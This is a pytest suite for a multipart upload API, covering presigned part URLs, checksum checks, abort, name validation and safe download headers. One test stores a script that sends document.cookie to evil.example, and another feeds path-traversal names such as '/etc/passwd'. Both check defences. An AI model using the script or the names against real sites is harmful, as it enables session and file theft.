"""Uploads through the API on the local store: plan, parts to presigned URLs, verification,
resume, abort, and nothing half-made left visible."""

from __future__ import annotations

import hashlib

import pytest

from mantle.catalog.uploads import MAX_PARTS, MIN_PART_SIZE, _problems, plan_part_size
from mantle.checksums import crc32_b64
from mantle.db.models import SqlUploadFile
from mantle.storage import PartInfo

MiB = 1024 * 1024


def test_part_size_plan():
    assert plan_part_size(0) == MIN_PART_SIZE
    assert plan_part_size(5 * 1024**3) == MIN_PART_SIZE
    huge = 5 * 1024**4
    size = plan_part_size(huge)
    assert size % MiB == 0 and -(-huge // size) <= MAX_PARTS


@pytest.fixture
def owner(factory):
    return factory.member("acme", "ann@example.com", "owner")


def start(api, owner, files, **dataset):
    body = {"name": "run 1", "data_type": "file", "files": files, **dataset}
    return api.post("/api/v1/tenants/acme/uploads", json=body, headers=owner.headers)


def part_url(api, owner, upload, file_id, n: int, body: bytes | None) -> str:
    """A part's URL, signed with the CRC32 of `body` (None: ask without one)."""
    request = {"file_id": file_id, "part_numbers": [n]}
    if body is not None:
        request["crc32"] = {str(n): crc32_b64(body)}
    response = api.post(
        f"/api/v1/tenants/acme/uploads/{upload['id']}/urls", headers=owner.headers, json=request
    )
    assert response.status_code == 200, response.text
    return response.json()["urls"][str(n)]


def put_parts(api, owner, upload, contents: dict[str, bytes], *, skip=()):
    for file in upload["files"]:
        data = contents[file["name"]]
        chunks = {
            n: data[(n - 1) * upload["part_size"] : n * upload["part_size"]]
            for n in range(1, file["part_count"] + 1)
        }
        urls = api.post(
            f"/api/v1/tenants/acme/uploads/{upload['id']}/urls",
            headers=owner.headers,
            json={"file_id": file["id"], "part_numbers": list(chunks),
                  "crc32": {n: crc32_b64(c) for n, c in chunks.items()}},
        ).json()["urls"]  # fmt: skip
        for n, chunk in chunks.items():
            if (file["name"], n) in skip:
                continue
            response = api.put(urls[str(n)], content=chunk)
            assert response.status_code == 200, response.text
            assert response.headers["ETag"].strip('"') == hashlib.md5(chunk).hexdigest()


def dataset_count(api, owner) -> int:
    page = api.get("/api/v1/tenants/acme/datasets?count=true", headers=owner.headers).json()
    return page["count"]


def test_upload_small_and_multipart_files(api, owner):
    contents = {"reads/a.txt": b"hello", "reads/big.bin": bytes(range(256)) * (81920 + 7)}
    files = [{"name": n, "size": len(d)} for n, d in contents.items()]
    upload = start(api, owner, files, tags=["raw"]).json()
    assert upload["part_size"] == 8 * MiB
    by_name = {f["name"]: f for f in upload["files"]}
    assert by_name["reads/a.txt"]["multipart"] is False
    assert by_name["reads/big.bin"]["part_count"] == 3 and by_name["reads/big.bin"]["multipart"]
    put_parts(api, owner, upload, contents)
    done = api.post(
        f"/api/v1/tenants/acme/uploads/{upload['id']}/complete", json={}, headers=owner.headers
    )
    assert done.status_code == 201, done.text
    dataset = done.json()
    assert dataset["origin"] == "upload" and dataset["tags"] == ["raw"]
    sizes = {f["name"]: f["size"] for f in dataset["files"]}
    assert sizes == {n: len(d) for n, d in contents.items()}
    assert all(f["storage"] == "stored" for f in dataset["files"])
    links = api.get(
        f"/api/v1/tenants/acme/datasets/{dataset['short_id']}/download", headers=owner.headers
    ).json()
    for link in links:
        assert api.get(link["url"]).content == contents[link["name"]]
    lineage = api.get(
        f"/api/v1/tenants/acme/datasets/{dataset['short_id']}/lineage", headers=owner.headers
    ).json()
    assert any(n.get("activity_kind") == "upload" for n in lineage["nodes"])
    # Completed uploads cannot be completed or aborted again.
    again = api.post(
        f"/api/v1/tenants/acme/uploads/{upload['id']}/complete", json={}, headers=owner.headers
    )
    assert again.status_code == 409


def test_missing_or_wrong_parts_are_refused_and_nothing_is_visible(api, owner):
    data = b"x" * (17 * MiB)
    upload = start(api, owner, [{"name": "big.bin", "size": len(data)}]).json()
    put_parts(api, owner, upload, {"big.bin": data}, skip={("big.bin", 2)})
    complete = f"/api/v1/tenants/acme/uploads/{upload['id']}/complete"
    missing = api.post(complete, json={}, headers=owner.headers)
    assert missing.status_code == 422
    assert "big.bin: part(s) 2 not uploaded" in missing.json()["error"]["message"]
    assert dataset_count(api, owner) == 0

    # The status shows what is stored, so a client can resume with part 2 only.
    status = api.get(f"/api/v1/tenants/acme/uploads/{upload['id']}", headers=owner.headers).json()
    assert [p["part_number"] for p in status["files"][0]["parts"]] == [1, 3]

    file_id = upload["files"][0]["id"]
    api.put(part_url(api, owner, upload, file_id, 2, b"short"), content=b"short")
    wrong_size = api.post(complete, json={}, headers=owner.headers)
    assert wrong_size.status_code == 422
    assert "part 2 has 5 bytes, expected 8388608" in wrong_size.json()["error"]["message"]

    part2 = data[8 * MiB : 16 * MiB]
    url = part_url(api, owner, upload, file_id, 2, part2)
    api.put(url, content=part2)
    bad_md5 = api.post(
        complete,
        headers=owner.headers,
        json={"md5": {file_id: {"2": hashlib.md5(b"other").hexdigest()}}},
    )
    assert bad_md5.status_code == 422 and "checksum" in bad_md5.json()["error"]["message"]
    assert dataset_count(api, owner) == 0

    good = api.post(
        complete,
        headers=owner.headers,
        json={"md5": {file_id: {"2": hashlib.md5(part2).hexdigest()}}},
    )
    assert good.status_code == 201, good.text
    assert dataset_count(api, owner) == 1


def test_parts_are_checked_against_their_crc32(api, owner):
    """Multipart files need each part's CRC32 to get its URL; storage refuses a body that
    does not match and keeps nothing of it; a single-PUT URL may carry one too."""
    data = b"z" * (9 * MiB)
    upload = start(api, owner, [{"name": "big.bin", "size": len(data)}, {"name": "s", "size": 2}])
    upload = upload.json()
    big, small = upload["files"]
    assert big["checksum"] == "crc32" and small["checksum"] is None
    urls = f"/api/v1/tenants/acme/uploads/{upload['id']}/urls"
    unsigned = api.post(urls, headers=owner.headers,
                        json={"file_id": big["id"], "part_numbers": [1, 2]})  # fmt: skip
    assert unsigned.status_code == 422
    assert "CRC32" in unsigned.json()["error"]["message"]
    assert unsigned.json()["error"]["details"] == {"missing_crc32": [1, 2]}
    garbled_body = {"file_id": big["id"], "part_numbers": [1], "crc32": {"1": "md5?"}}
    garbled = api.post(urls, headers=owner.headers, json=garbled_body)
    assert garbled.status_code == 422 and "base64 CRC32" in garbled.json()["error"]["message"]

    part1 = data[: 8 * MiB]
    url = part_url(api, owner, upload, big["id"], 1, part1)
    corrupted = api.put(url, content=b"Z" + part1[1:])
    assert corrupted.status_code == 400
    assert corrupted.json()["error"]["code"] == "checksum_mismatch"
    status = api.get(f"/api/v1/tenants/acme/uploads/{upload['id']}", headers=owner.headers)
    assert status.json()["files"][0]["parts"] == []  # nothing of the bad body was kept
    assert api.put(url, content=part1).status_code == 200

    small_url = part_url(api, owner, upload, small["id"], 1, b"ok")
    assert api.put(small_url, content=b"no").status_code == 400
    assert api.put(small_url, content=b"ok").status_code == 200
    assert part_url(api, owner, upload, small["id"], 1, None)  # optional for a single PUT


def test_part_urls_for_many_files_in_one_request(api, owner):
    """`part-urls` signs parts of any files of the upload at once; every file is checked
    like the one-file form (range, CRC32 required for multipart files, file of this upload)."""
    contents = {f"f{i}.txt": f"file {i}".encode() for i in range(5)} | {"big.bin": b"b" * (9 * MiB)}
    upload = start(api, owner, [{"name": n, "size": len(d)} for n, d in contents.items()]).json()
    by_name = {f["name"]: f for f in upload["files"]}
    path = f"/api/v1/tenants/acme/uploads/{upload['id']}/part-urls"
    parts = []
    for name, data in contents.items():
        file = by_name[name]
        for n in range(1, file["part_count"] + 1):
            chunk = data[(n - 1) * upload["part_size"] : n * upload["part_size"]]
            parts.append({"file_id": file["id"], "part_number": n, "crc32": crc32_b64(chunk),
                          "_body": chunk})  # fmt: skip
    refs = [{k: v for k, v in p.items() if k != "_body"} for p in parts]
    answer = api.post(path, headers=owner.headers, json={"parts": refs})
    assert answer.status_code == 200, answer.text
    signed = {(p["file_id"], p["part_number"]): p for p in answer.json()["parts"]}
    assert len(signed) == len(parts) == 7
    for part in parts:
        one = signed[(part["file_id"], part["part_number"])]
        single = by_name["big.bin"]["id"] != part["file_id"]
        create_only = {"If-None-Match": "*"} if single else {}  # single PUTs never replace
        assert one["headers"] == {"x-amz-checksum-crc32": part["crc32"], **create_only}
        assert api.put(one["url"], content=part["_body"], headers=one["headers"]).status_code == 200
    done = api.post(f"/api/v1/tenants/acme/uploads/{upload['id']}/complete", json={},
                    headers=owner.headers)  # fmt: skip
    assert done.status_code == 201 and len(done.json()["files"]) == 6

    again = start(api, owner, [{"name": "big.bin", "size": 9 * MiB}]).json()
    big = again["files"][0]["id"]
    path = f"/api/v1/tenants/acme/uploads/{again['id']}/part-urls"
    cases = [
        ([{"file_id": big, "part_number": 3, "crc32": "AAAAAA=="}], 422, "parts 1 to 2"),
        ([{"file_id": big, "part_number": 1}], 422, "CRC32"),
        ([{"file_id": by_name["f0.txt"]["id"], "part_number": 1}], 404, "no such file"),
        ([], 422, "parts"),
    ]
    for body, status, text in cases:
        response = api.post(path, headers=owner.headers, json={"parts": body})
        assert response.status_code == status, response.text
        assert text in response.json()["error"]["message"]


def test_complete_compares_sent_crc32_with_what_storage_reports():
    """S3 reports each part's CRC32 (ListParts); a different one sent at completion is a
    problem; a part storage reports none for is left to storage's own check."""
    file = SqlUploadFile(name="f.bin", part_count=2, size=9 * MiB)
    parts = [PartInfo(1, 8 * MiB, "e1", crc32_b64(b"a")), PartInfo(2, MiB, "e2", None)]
    sent = {1: crc32_b64(b"b"), 2: crc32_b64(b"c")}
    assert _problems(file, 8 * MiB, parts, {}, sent) == [
        "f.bin: part 1 CRC32 does not match; upload it again"
    ]
    assert _problems(file, 8 * MiB, parts, {}, {1: crc32_b64(b"a")}) == []


def test_abort_removes_everything(api, owner, app):
    data = b"y" * (9 * MiB)
    upload = start(api, owner, [{"name": "f.bin", "size": len(data)}, {"name": "s", "size": 1}])
    upload = upload.json()
    put_parts(api, owner, upload, {"f.bin": data, "s": b"1"})
    aborted = api.delete(f"/api/v1/tenants/acme/uploads/{upload['id']}", headers=owner.headers)
    assert aborted.status_code == 200 and aborted.json()["status"] == "aborted"
    store = app.state.object_store
    assert store.list("tenants/", limit=1000).objects == []
    late = api.post(
        f"/api/v1/tenants/acme/uploads/{upload['id']}/complete", json={}, headers=owner.headers
    )
    assert late.status_code == 409


@pytest.mark.parametrize("name", ["../escape", "/etc/passwd", "a/../../b", "a\x00b", "a//b", ".."])
def test_bad_file_names_are_refused(api, owner, name):
    response = start(api, owner, [{"name": name, "size": 3}])
    assert response.status_code in (400, 422), response.text
    listed = api.get(f"/api/v1/tenants/acme/uploads/{'0' * 32}", headers=owner.headers)
    assert listed.status_code == 404


def test_duplicate_names_and_bad_properties_fail_before_any_transfer(api, owner):
    dup = start(api, owner, [{"name": "a", "size": 1}, {"name": "a", "size": 2}])
    assert dup.status_code == 422 and "repeated: a" in dup.json()["error"]["message"]
    bad = start(
        api,
        owner,
        [{"name": "S1_R1.fq.gz", "size": 4}],
        data_type="fastq_pair",
        properties={"sample": "S1", "read1": "S1_R1.fq.gz"},
    )
    assert bad.status_code == 422
    assert "read2" in bad.json()["error"]["message"]


def long_name(size: int) -> str:
    """A path of `size` bytes made of folder names no longer than file systems allow."""
    folders = "/".join(["d" * 250] * (size // 251))
    return f"{folders}/{'f' * (size - len(folders) - 1)}" if folders else "f" * size


# Keys are `tenants/<id>/uploads/<id>/<name>`: 90 bytes before the name, 1024 in all.
ROOM = 1024 - 90


def test_names_too_long_for_a_key_are_refused_at_start(api, owner):
    over = start(
        api, owner, [{"name": "ok.txt", "size": 1}, {"name": long_name(ROOM + 1), "size": 1}]
    )
    assert over.status_code == 422, over.text
    message = over.json()["error"]["message"]
    assert f"{ROOM + 1}-byte name" in message and f"at most {ROOM}" in message
    assert "'dddd" in message  # names the file
    # The longest name that fits goes all the way through.
    name = long_name(ROOM)
    upload = start(api, owner, [{"name": name, "size": 2}]).json()
    put_parts(api, owner, upload, {name: b"ok"})
    done = api.post(
        f"/api/v1/tenants/acme/uploads/{upload['id']}/complete", json={}, headers=owner.headers
    )
    assert done.status_code == 201, done.text
    assert done.json()["files"][0]["name"] == name


@pytest.mark.parametrize("segment", ["x" * 256, "é" * 128])
def test_file_or_folder_names_over_255_bytes_are_refused(api, owner, segment):
    for name in (segment, f"{segment}/a.txt", f"a/{segment}"):
        response = start(api, owner, [{"name": name, "size": 1}])
        assert response.status_code == 422, response.text
        assert "256 bytes long" in response.json()["error"]["message"]


@pytest.mark.parametrize(
    ("names", "file", "folder_of"),
    [
        (["a", "a/b"], "a", "a/b"),
        (["a/b/c", "x", "a/b"], "a/b", "a/b/c"),
        (["runs/S1.fq", "runs/S1.fq/index"], "runs/S1.fq", "runs/S1.fq/index"),
    ],
)
def test_a_name_cannot_be_both_a_file_and_a_folder(api, owner, names, file, folder_of):
    response = start(api, owner, [{"name": n, "size": 1} for n in names])
    assert response.status_code == 422, response.text
    assert (
        f"file '{file}' is also the folder of '{folder_of}'" in response.json()["error"]["message"]
    )
    assert dataset_count(api, owner) == 0
    siblings = start(api, owner, [{"name": n, "size": 1} for n in ("a/b", "a/bc", "ab", "a.b")])
    assert siblings.status_code == 201, siblings.text


def test_file_properties_name_files_of_the_upload(api, owner):
    contents = {"S1_R1.fq.gz": b"r1", "S1_R2.fq.gz": b"r2"}
    upload = start(
        api,
        owner,
        [{"name": n, "size": len(d)} for n, d in contents.items()],
        data_type="fastq_pair",
        properties={"sample": "S1", "read1": "S1_R1.fq.gz", "read2": "S1_R2.fq.gz"},
    )
    assert upload.status_code == 201, upload.text
    put_parts(api, owner, upload.json(), contents)
    done = api.post(
        f"/api/v1/tenants/acme/uploads/{upload.json()['id']}/complete",
        json={},
        headers=owner.headers,
    ).json()
    uris = {f["name"]: f["uri"] for f in done["files"]}
    assert done["properties"]["read1"] == uris["S1_R1.fq.gz"]
    assert done["properties"]["read2"] == uris["S1_R2.fq.gz"]


def test_viewer_cannot_upload(api, factory, owner):
    viewer = factory.member("acme", "vic@example.com", "viewer")
    response = start(api, viewer, [{"name": "a", "size": 1}])
    assert response.status_code == 403


def complete(api, owner, upload) -> dict:
    done = api.post(
        f"/api/v1/tenants/acme/uploads/{upload['id']}/complete", json={}, headers=owner.headers
    )
    assert done.status_code == 201, done.text
    return done.json()


def download(api, owner, dataset, name: str):
    links = api.get(
        f"/api/v1/tenants/acme/datasets/{dataset['short_id']}/download", headers=owner.headers
    ).json()
    return api.get(next(link["url"] for link in links if link["name"] == name))


def test_uploaded_html_downloads_as_an_attachment_never_a_page(api, owner):
    html = b"<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
    upload = start(api, owner, [{"name": "report.html", "size": len(html)}]).json()
    url = part_url(api, owner, upload, upload["files"][0]["id"], 1, None)
    stored = api.put(url, content=html, headers={"Content-Type": "text/html"})
    assert stored.status_code == 200
    response = download(api, owner, complete(api, owner, upload), "report.html")
    assert response.content == html
    assert response.headers["content-type"].startswith("text/html")  # as uploaded, but:
    assert response.headers["content-disposition"] == (
        "attachment; filename=\"report.html\"; filename*=UTF-8''report.html"
    )
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-security-policy"] == "default-src 'none'; sandbox"
    ranged = api.get(response.request.url, headers={"Range": "bytes=0-7"})
    assert ranged.status_code == 206
    assert ranged.headers["content-disposition"].startswith("attachment;")
    assert ranged.headers["content-security-policy"] == "default-src 'none'; sandbox"


def test_download_names_are_safely_encoded(api, owner):
    name = 'dir/ré"port; x.html'
    upload = start(api, owner, [{"name": name, "size": 2}])
    assert upload.status_code == 201, upload.text
    upload = upload.json()
    api.put(part_url(api, owner, upload, upload["files"][0]["id"], 1, None), content=b"ok")
    response = download(api, owner, complete(api, owner, upload), name)
    assert response.headers["content-disposition"] == (
        "attachment; filename=\"r__port; x.html\"; filename*=UTF-8''r%C3%A9%22port%3B%20x.html"
    )


def test_upload_urls_cannot_change_a_completed_dataset(api, owner, app):
    small, big = b"original", bytes(range(256)) * (36864 + 3)  # 9 MiB and a bit: 2 parts
    upload = start(api, owner, [{"name": "s.txt", "size": len(small)},
                                {"name": "big.bin", "size": len(big)}]).json()  # fmt: skip
    by_name = {f["name"]: f for f in upload["files"]}
    small_url = part_url(api, owner, upload, by_name["s.txt"]["id"], 1, None)
    part_urls = {
        n: part_url(api, owner, upload, by_name["big.bin"]["id"], n, chunk)
        for n, chunk in ((1, big[: 8 * MiB]), (2, big[8 * MiB :]))
    }
    assert api.put(small_url, content=small).status_code == 200
    for n, url in part_urls.items():
        assert api.put(url, content=big[(n - 1) * 8 * MiB : n * 8 * MiB]).status_code == 200
    dataset = complete(api, owner, upload)
    assert f"/uploads/{upload['id']}/s.txt" in small_url  # the dataset's own key, create-only

    again = api.put(small_url, content=b"tampered")
    assert again.status_code == 412  # the object exists: a create-only URL cannot replace it
    assert again.json()["error"]["code"] == "precondition_failed"
    late_part = api.put(part_urls[1], content=big[: 8 * MiB])
    assert late_part.status_code == 404  # the multipart upload is gone
    assert download(api, owner, dataset, "s.txt").content == small
    assert download(api, owner, dataset, "big.bin").content == big
    shown = api.get(f"/api/v1/tenants/acme/datasets/{dataset['short_id']}", headers=owner.headers)
    assert shown.json()["version"] == dataset["version"]


def test_upload_urls_die_with_an_aborted_upload(api, owner, app):
    data = b"z" * (9 * MiB)
    upload = start(api, owner, [{"name": "f.bin", "size": len(data)},
                                {"name": "s.txt", "size": 1}]).json()  # fmt: skip
    by_name = {f["name"]: f for f in upload["files"]}
    url = part_url(api, owner, upload, by_name["f.bin"]["id"], 1, data[: 8 * MiB])
    small_url = part_url(api, owner, upload, by_name["s.txt"]["id"], 1, b"s")
    assert api.put(small_url, content=b"s").status_code == 200
    assert api.delete(f"/api/v1/tenants/acme/uploads/{upload['id']}", headers=owner.headers)
    assert api.put(url, content=data[: 8 * MiB]).status_code == 404
    store = app.state.object_store
    assert store.list("tenants/").objects == []
    # A single-PUT URL outlives an abort: it can create its object again, under the aborted
    # upload's prefix, which no dataset references (garbage, not harm).
    assert api.put(small_url, content=b"s").status_code == 200
    assert [o.key.rsplit("/", 3)[-3:] for o in store.list("tenants/").objects] == [
        ["uploads", upload["id"], "s.txt"]
    ]
